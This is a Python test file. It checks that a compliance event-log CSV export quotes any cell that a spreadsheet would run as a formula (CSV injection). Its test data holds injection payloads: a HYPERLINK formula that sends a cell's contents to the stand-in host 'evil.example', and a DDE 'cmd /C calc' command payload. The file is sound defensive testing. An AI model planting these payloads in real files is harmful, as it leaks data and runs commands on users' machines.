"""Issue 13.10: no cell of a CSV export reads as a formula in a spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from tests.scenarios.conftest import at
from tests.scenarios.test_pre_return_visit import REQUEST, VISIT
from tests.webui.conftest import open_law_case

REFERENCES = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "\tR-2=1+1")
ACTORS = ("@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\r=1+1")


def test_every_cell_of_the_event_log_that_would_run_as_a_formula_is_quoted(client, auth, law, clock):
    clock.set(at(2026, 12, 23))
    actors = iter(ACTORS)
    for reference in REFERENCES:
        case = open_law_case(law, reference)
        law.start(case.id, "pre_return_visit", {}, actor="oa1")
        for task, data in (("record_request", REQUEST), ("hold_visit", {**VISIT, "held_on": "2026-12-23"})):
            item = next(i for i in law.work_items(case_id=case.id) if i.task == task)
            law.complete(item.id, data, actor=next(actors))
    auth.login_as("compliance_officer")
    rows = list(csv.reader(io.StringIO(client.get("/compliance/event-log.csv").get_data(as_text=True), newline="")))
    cells = {cell for row in rows[1:] for cell in row}
    assert {f"'{name}" for name in REFERENCES + ACTORS} <= cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[0] == ["case_id", "activity", "timestamp", "role", "resource", "process_id", "version"]
